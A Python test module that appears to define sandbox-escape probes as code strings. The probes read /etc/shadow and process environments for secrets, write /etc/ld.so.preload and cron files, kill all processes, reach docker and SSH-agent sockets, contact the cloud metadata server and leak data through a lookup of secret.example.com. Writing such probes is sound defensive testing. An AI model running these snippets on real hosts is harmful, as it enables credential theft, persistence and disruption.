"""Host access: files, processes and the network outside."""

from functools import partial

from tests.sandbox.attacks import Attack

_host = partial(Attack, "host access")

FILES = [
    _host("read_canary", "read a file in the host's /tmp", "def attack(): return open(CANARY).read()", harmless=True),
    _host("read_source", "read a file of the project being worked on", "def attack(): return open(SOURCE).read()", harmless=True),
    _host("read_shadow", "read the host's password hashes", "def attack(): return open('/etc/shadow').read()"),
    _host("read_passwd", "learn the host's users", "def attack(): return 'root' in open('/etc/passwd').read()", harmless=True),
    _host("homes", "look into home folders", """
import os
def attack(): return [name for place in ('/root', '/home') if os.path.isdir(place) for name in os.listdir(place) if name not in HOME_OF_PYTHON]
"""),
    _host("list_root", "find folders of the host beyond system and interpreter", """
import os, sys
def attack():
    known = {'bin', 'sbin', 'lib', 'lib32', 'lib64', 'libx32', 'usr', 'etc', 'dev', 'proc', 'run', 'tmp'}
    return set(os.listdir('/')) - known - {sys.base_prefix.split('/')[1]}
""", harmless=True),
    _host("list_home_of_python", "look around beside the interpreter's folder", """
import os, sys
def attack():
    path = os.path.dirname(sys.base_prefix)
    return path != '/' and set(os.listdir(path)) - {os.path.basename(sys.base_prefix)} if not path.startswith('/usr') else False
"""),
    _host("root_of_init", "go through /proc/PID/root to files of another mount namespace", """
import os
def attack():
    for pid in [name for name in os.listdir('/proc') if name.isdigit()]:
        for link in ('root', 'cwd'):
            try:
                if open(f'/proc/{pid}/{link}{CANARY}').read(): return True
            except OSError:
                continue
""", harmless=True),
    _host("climb_out", "climb out of the root through .. and through an open folder", """
import os
def attack():
    for start in ('/proc/self/cwd', '/proc/self/root', '/'):
        folder = os.open(start, os.O_RDONLY)
        for _ in range(40):
            folder = os.open('..', os.O_RDONLY, dir_fd=folder)
            try:
                os.open(CANARY.lstrip('/'), os.O_RDONLY, dir_fd=folder)
                return True
            except FileNotFoundError:
                continue
""", harmless=True),
    _host("link_to_host", "make links to files of the host and follow them", """
import os
def attack():
    os.symlink(CANARY, '/tmp/codewright-left-link')
    try:
        return open('/tmp/codewright-left-link').read()
    finally:
        os.unlink('/tmp/codewright-left-link')
""", harmless=True),
    _host("write_usr", "change the system", "def attack(): return open('/usr/lib/x', 'w')"),
    _host("write_python", "change the interpreter", "import os\ndef attack(): return open(os.__file__, 'a')"),
    _host("own_python", "make the interpreter's files writable, touch or replace them", """
import os
def attack():
    for change in (lambda p: os.chmod(p, 0o666), lambda p: os.utime(p), lambda p: os.rename(p, p + '.x'), lambda p: os.unlink(p)):
        try:
            change(os.__file__)
            return True
        except OSError:
            continue
"""),
    _host("write_bytecode", "plant compiled code that later interpreters would load", """
import importlib.util, os
def attack():
    path = importlib.util.cache_from_source(os.__file__)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return open(path, 'ab')
"""),
    _host("preload", "have the loader load a library into every later process", "def attack(): return open('/etc/ld.so.preload', 'w')"),
    _host("write_runner", "change the runner", "def attack(): return open('/run/codewright/codewright/x', 'w')"),
    _host("write_root", "leave a file in /", "def attack(): return open('/x', 'w')"),
    _host("write_etc", "leave a file in /etc", "def attack(): return open('/etc/hosts', 'w')"),
    _host("write_dev", "leave a file in /dev", "def attack(): return open('/dev/x', 'w')"),
    _host("write_run", "leave a file in /run", "def attack(): return open('/run/x', 'w')"),
    _host("schedule", "have the host's cron run something", """
def attack():
    for place in ('/etc/cron.d/x', '/var/spool/cron/crontabs/root', '/etc/crontab'):
        try:
            return open(place, 'a')
        except OSError:
            continue
"""),
    _host("inotify", "watch what the host does with files that both can see", """
import ctypes, os, select, time
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0 or libc.inotify_add_watch(fd, os.path.dirname(READ_OFTEN).encode(), 0x21) < 0: return False
    end = time.monotonic() + 2
    while time.monotonic() < end:
        if select.select([fd], [], [], 0.2)[0] and os.path.basename(READ_OFTEN).encode() in os.read(fd, 1 << 16): return True
""", harmless=True),
    _host("dnotify", "the same through fcntl(2)", """
import fcntl, os, signal, time
def attack():
    seen = []
    signal.signal(signal.SIGIO, lambda *_: seen.append(1))
    fcntl.fcntl(os.open(os.path.dirname(READ_OFTEN), os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
    time.sleep(0.5)
    return seen
""", harmless=True),
    _host("fanotify", "the same for the whole file system", """
import ctypes, os
def attack(): return ctypes.CDLL(None).syscall(300 if os.uname().machine == 'x86_64' else 262, 0, 0) >= 0
"""),
    _host("lease", "take a lease on a file, so that whoever writes it has to wait", """
import fcntl, os
def attack(): return fcntl.fcntl(os.open(os.__file__, os.O_RDONLY), 1024, 0) == 0
"""),
]  # fmt: skip

PROCESSES = [
    _host("host_processes", "see processes of the host or of the sandbox", """
import os
def attack(): return [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
""", harmless=True),
    _host("environment", "find a secret in any environment", """
import os, glob
def attack():
    texts = [str(os.environ)] + [open(p).read() for p in glob.glob('/proc/[0-9]*/environ')]
    return any('CODEWRIGHT_TEST_SECRET' in text for text in texts)
"""),
    _host("kill_others", "signal processes outside by guessing their numbers", """
import os
def attack():
    for pid in range(2, 3000):
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        return True
"""),
    _host("kill_all", "signal every process there is, and its own group", """
import os, signal
def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, signal.SIGKILL)
        return True
    except ProcessLookupError:
        os.killpg(0, signal.SIGTERM)
"""),
    _host("parent", "find the zygote as a parent", "import os\ndef attack(): return os.getppid() != 0", harmless=True),
    _host("limits_of_others", "read and change the limits of other processes", """
import os, resource
def attack():
    for pid in {os.getppid(), *range(2, 3000)} - {0, os.getpid()}:
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU)
        except OSError:
            continue
        return True
""", harmless=True),
    _host("memory_of_others", "read the memory of every process it can name", """
import os
def attack(): return any(os.path.exists(f'/proc/{p}/mem') for p in range(1, 500) if p != os.getpid())
""", harmless=True),
    _host("descriptors_of_others", "open the descriptors of the runner through /proc/PID/fd", """
import os
def attack():
    found = []
    for pid in [name for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]:
        try:
            found += os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
    return found
""", harmless=True),
    _host("inherited_descriptors", "find descriptors beyond its own streams and the verdict socket", """
import os
def attack():
    found = []
    for fd in range(4, 4096):
        try:
            os.fstat(fd)
        except OSError:
            continue
        found.append(fd)
    return found
"""),
    _host("descriptors_in_children", "hand the verdict socket to another program", """
import subprocess
def attack(): return subprocess.run(['ls', '/proc/self/fd'], close_fds=False, capture_output=True, text=True).stdout.split() != ['0', '1', '2', '3']
"""),
    _host("trace", "trace its own child, as a step towards others", """
import ctypes, os, time
def attack():
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    return ctypes.CDLL(None).ptrace(16, child, 0, 0) >= 0
"""),
    _host("pidfd", "take a descriptor out of another process", """
import ctypes, os
def attack():
    for pid in range(2, 300):
        try:
            fd = os.pidfd_open(pid)
        except OSError:
            continue
        return ctypes.CDLL(None).syscall(438, fd, 0, 0) >= 0 or True
"""),
    _host("parent_namespace", "ask the kernel for the namespace around its own", """
import fcntl, os
def attack():
    for name in ('pid', 'user'):
        for request in (0xb702, 0xb701):
            try:
                got = fcntl.ioctl(os.open(f'/proc/self/ns/{name}', os.O_RDONLY), request)
            except OSError:
                continue
            if name == 'pid' and request == 0xb702: return True
            if os.fstat(got).st_ino != os.stat('/proc/self/ns/user').st_ino: return True
"""),
]  # fmt: skip

NETWORK = [
    _host("connect_loopback", "reach a server of the host on 127.0.0.1", "import socket\ndef attack(): return socket.create_connection(('127.0.0.1', PORT), 2)", harmless=True),
    _host("connect_abstract", "reach an abstract unix socket of the host", r"""
import socket
def attack():
    socket.socket(socket.AF_UNIX).connect('\0' + ABSTRACT)
    return True
""", harmless=True),
    _host("list_sockets", "list the host's unix sockets", "def attack(): return ABSTRACT in open('/proc/net/unix').read()", harmless=True),
    _host("daemons", "reach the sockets of docker, containerd, dbus or an SSH agent", """
import glob, os, socket
def attack():
    for path in ('/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', *glob.glob('/tmp/ssh-*/agent.*')):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
        except OSError:
            continue
        return True
"""),
    _host("send_udp", "send a packet away", "import socket\ndef attack(): return socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"),
    _host("metadata_server", "ask a cloud's metadata server for credentials", "import socket\ndef attack(): return socket.create_connection(('169.254.169.254', 80), 1)"),
    _host("name_lookup", "send data away inside a name lookup", "import socket\ndef attack(): return socket.getaddrinfo('secret.example.com', 80)"),
    _host("interfaces", "find a network interface beyond the loopback", "import socket\ndef attack(): return [name for _, name in socket.if_nameindex() if name != 'lo']"),
    _host("read_hostname", "learn the machine's name", "import socket\ndef attack(): return socket.gethostname() == HOSTNAME", harmless=True),
    _host("raw_sockets", "open packet, netlink, vsock, crypto or Bluetooth sockets", """
import socket
def attack():
    for family in (16, 17, 31, 38, 40):
        try:
            socket.socket(family, socket.SOCK_RAW)
        except OSError:
            continue
        return True
"""),
]  # fmt: skip
